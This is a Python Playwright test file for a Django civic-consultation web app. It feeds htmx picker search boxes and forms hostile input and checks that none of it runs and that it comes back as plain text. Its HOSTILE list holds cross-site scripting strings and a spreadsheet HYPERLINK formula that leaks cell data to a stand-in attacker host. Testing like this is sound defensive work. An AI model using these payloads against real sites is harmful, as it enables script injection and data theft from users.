"""The htmx pickers under hostile input, in a real browser: the task assign and reassign forms' 责任单位 / 责任人账号
(a convenor at 1366 px), the member links' unit filter (the county office) and the own-data request's county picker
(a resident at 360 px). Each search box gets a script tag, an event-handler attribute, 200 characters and a spreadsheet
formula: every answer is below 500, nothing injected runs, the text comes back as text; the form is then submitted
with the input in it and the pages that show it again are reloaded, with the same checks."""

from datetime import timedelta

from django.contrib.auth.models import AnonymousUser
from django.utils import timezone

from shangliang.accountability import services as acc
from shangliang.consultations.models import ConsultationStatus as C
from shangliang.notifications import sms
from shangliang.topics import services as topic_services
from tests.browser.conftest import PHONE, assert_fits, login
from tests.conftest import fresh
from tests.consultations.conftest import make, people  # noqa: F401 (the `people` fixture)

HOSTILE = [
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=1">',
    "长" * 200,
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
]


def _context(chromium, *, phone=False):
    if phone:
        context = chromium.new_context(locale="zh-CN", viewport=PHONE, is_mobile=True, has_touch=True)
    else:
        context = chromium.new_context(locale="zh-CN", viewport={"width": 1366, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15_000)
    statuses = []
    page.on("response", lambda r: statuses.append((r.status, r.url)))
    page.statuses = statuses
    return page


def _clean(page) -> None:
    """No 5xx so far, nothing injected ran, no element came from the input."""
    failed = [(s, u) for s, u in page.statuses if s >= 500]
    assert not failed, failed
    assert page.evaluate("() => window.__pwned === undefined")
    assert page.locator("img[src=x]").count() == 0
    assert page.evaluate("() => [...document.scripts].every(s => !s.textContent.includes('__pwned'))")


def _settled(page) -> None:
    page.wait_for_function("() => !document.querySelector('.htmx-request, .htmx-settling, .htmx-swapping')")


def walk_pickers(page, *, phone=False) -> int:
    """Type each hostile string into each picker's search box; returns how many pickers were walked."""
    pickers = page.locator("fieldset.picker")
    n = pickers.count()
    assert n, "no picker on " + page.url
    for i in range(n):
        box = pickers.nth(i).locator("input[type=search]")
        options = pickers.nth(i).locator(".picker-options")
        limit = int(box.get_attribute("maxlength") or 50)
        path = box.get_attribute("hx-get")
        for text in HOSTILE:
            with page.expect_response(lambda r, path=path: r.url.split("?")[0].endswith(path)) as r:
                box.fill(text)
            assert r.value.status < 500, (r.value.status, r.value.url)
            _settled(page)
            _clean(page)
            shown = options.inner_text()
            typed = box.input_value()
            assert typed in (text, text[:limit])  # the box keeps what was typed, as text
            if "没有找到" in shown:
                assert typed in shown  # echoed back literally, not as markup
            if phone:
                assert_fits(page)
    return n


def submit_and_reload(page, form_selector: str) -> None:
    """Submit the form with the last hostile input still in its search boxes, then reload what comes back."""
    with page.expect_navigation():
        page.locator(f"{form_selector} [type=submit]").first.press("Enter")
    _clean(page)
    page.reload()
    _clean(page)


def test_the_task_pickers_under_hostile_input(chromium, live_server, world, people):  # noqa: F811
    consultation = make(world, people, C.SUBMITTED)
    task = acc.task_assign(
        actor=fresh(world.users["convenor"]),
        suggestion=consultation.suggestions.get(),
        department=world.department,
        owner_name="王科长",
        owner_phone="13800001111",
        action="在小区东侧划设 40 个停车位",
        deadline=timezone.localdate() + timedelta(days=20),
    )
    page = _context(chromium)
    login(page, live_server, "convenor")
    for address in (
        f"/accountability/consultations/{consultation.pk}/assign/",
        f"/accountability/tasks/{task.pk}/reassign/",
    ):
        page.goto(live_server.url + address)
        assert walk_pickers(page) == 2, address  # 责任单位 and 责任人账号
        submit_and_reload(page, "main form[method=post]")
        assert page.locator(".errorlist").count()  # refused with a message, not a 500
    page.context.close()


def test_the_member_links_unit_filter_under_hostile_input(chromium, live_server, world):
    page = _context(chromium)
    login(page, live_server, "staff")
    page.goto(f"{live_server.url}/people/counties/{world.a.pk}/links/")
    assert walk_pickers(page) >= 1
    with page.expect_navigation():
        page.locator("fieldset.picker input[type=search]").first.press("Enter")  # the filter form is a GET
    _clean(page)
    page.reload()
    _clean(page)
    page.context.close()


def test_the_own_data_county_picker_under_hostile_input_at_phone_width(chromium, live_server, world, settings):
    settings.SMS_BACKEND = "shangliang.notifications.sms.LocmemBackend"
    sms.outbox.clear()
    mobile = "13912340078"
    topic_services.topic_submit(
        actor=AnonymousUser(),
        room=world.rooms["一村"],
        title="村口路灯不亮",
        description="已经坏了一周",
        anonymous=False,
        name="王五",
        mobile=mobile,
        contact_consent=True,
    )
    page = _context(chromium, phone=True)
    page.goto(f"{live_server.url}/public/me/")
    page.get_by_role("link", name="用手机号验证").first.click()
    page.get_by_label("手机号", exact=True).fill(mobile)
    page.get_by_label("我已阅读隐私告知，同意本平台为验证身份处理我的手机号").check()
    page.get_by_role("button", name="获取验证码").click()
    page.wait_for_selector("text=验证码已发送到 139****0078")
    code = "".join(ch for ch in sms.outbox[-1].text.split("验证码是")[1][:8] if ch.isdigit())
    page.get_by_label("短信验证码").fill(code)
    page.get_by_role("button", name="验证", exact=True).click()
    page.wait_for_url("**/public/me/")
    assert walk_pickers(page, phone=True) == 1
    # Submitted with the hostile text in the search box and in the note: accepted for the county still chosen,
    # shown again on the resident's page and on the county office's list, both reloaded.
    page.get_by_label("删除个人信息").check()
    page.locator("#ask-text").fill(HOSTILE[0] + HOSTILE[1] + HOSTILE[3])
    with page.expect_navigation():
        page.get_by_role("button", name="提交申请").click()
    page.wait_for_selector("text=申请已提交，县（区）政协机关将在期限内答复。")
    _clean(page)
    page.reload()
    _clean(page)
    assert_fits(page)
    office = _context(chromium)
    login(office, live_server, "staff")
    office.goto(f"{live_server.url}/residents/requests/{world.a.pk}/")
    assert HOSTILE[0] in office.locator("main").inner_text()  # the note as the resident wrote it, as text
    _clean(office)
    office.reload()
    _clean(office)
    office.context.close()
    page.context.close()
